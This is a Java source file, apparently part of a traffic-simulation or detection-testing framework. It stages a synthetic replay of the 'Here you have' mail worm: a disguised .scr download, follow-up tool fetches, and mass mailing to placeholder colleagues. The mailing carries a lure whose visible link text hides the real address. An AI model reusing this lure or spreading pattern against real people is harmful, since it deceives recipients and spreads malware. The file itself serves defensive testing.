package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Answer;
import wolfhound.scenarios.stage.Ask;
import wolfhound.scenarios.stage.Bodies;
import wolfhound.scenarios.stage.Browser;
import wolfhound.scenarios.stage.Mail;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Smtp;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Web;

/// A mail worm: somebody opens the "document" behind a link, and minutes later mails the same link
/// to the whole address book.
final class HereYouHave extends Guilty {
    private static final String HOST = "members.free-hosting.example";

    HereYouHave() {
        super(
                "here-you-have",
                "Imsolk",
                "A person opens a screen saver named as a document; the desk mails its link to all",
                "What went in comes out: the link that was fetched is the link that is mailed");
    }

    @Override
    public void stage(Stage stage) {
        Actor relay = stage.server("mail", Platform.LINUX);
        Actor desk = stage.workstation("desk", Platform.WINDOWS);
        desk.joins().isInfected(Behaviour.DELIVERY, Behaviour.SPAM).pauses(5);
        Bodies bodies = new Bodies(stage);
        String path =
                "/yahoophoto/PDF_Document"
                        + stage.between(10, 99)
                        + "_0"
                        + stage.between(10_000_000, 99_999_999)
                        + "_pdf.scr";

        new Browser(desk)
                .fetches(
                        HOST,
                        path,
                        "",
                        Answer.ok("application/octet-stream", bodies.program(40_000)));
        desk.pauses(8);
        for (String tool : new String[] {"tryme.iq", "ff.iq", "op.iq"}) {
            Ask ask =
                    Ask.get("/yahoophoto/" + tool)
                            .with(
                                    "User-Agent: Microsoft URL Control - 6.00.8862",
                                    "Host",
                                    "Cache-Control: no-cache");
            Web.to(desk, HOST).asks(ask, Answer.ok("text/plain", bodies.program(9_000))).closes();
            desk.pauses(2);
        }
        int colleagues = stage.between(24, 40);
        String sender = desk.machine().userName() + "@our-company.example";
        for (int i = 0; i < colleagues; i++) {
            Mail mail =
                    Mail.from(sender, "colleague" + i + "@our-company.example")
                            .with(
                                    "From: " + sender,
                                    "To: colleague" + i + "@our-company.example",
                                    "Subject: Here you have")
                            .with("Content-Type: text/html")
                            .text(
                                    "Hello:<br>This is The Document I told you about, you can find it Here.<br>"
                                            + "<a href=\"http://"
                                            + HOST
                                            + path
                                            + "\">http://www.sharedocuments.example/library/document.025542010.pdf</a>"
                                            + "<br>Please check it and reply as soon as possible.");
            Smtp.to(desk, relay.machine(), 25, desk.machine().hostName()).sends(mail).quits();
            desk.pauses(0.7);
        }
    }
}
